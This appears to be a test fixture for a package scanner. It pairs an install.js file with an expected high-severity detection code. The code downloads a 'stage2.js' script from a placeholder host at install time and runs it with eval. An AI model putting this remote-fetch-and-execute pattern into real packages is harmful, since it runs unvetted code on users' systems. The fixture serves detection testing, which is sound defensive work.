#! path=install.js flags=install expect=L2-OBFS-001:HIGH:4 max=any
// Written for this test: code fetched during install and evaluated.
const https = require('https');
https.get('https://cdn.example.org/stage2.js', (res) => {
  let code = ''; res.on('data', (c) => (code += c)); res.on('end', () => { eval(code); });
});
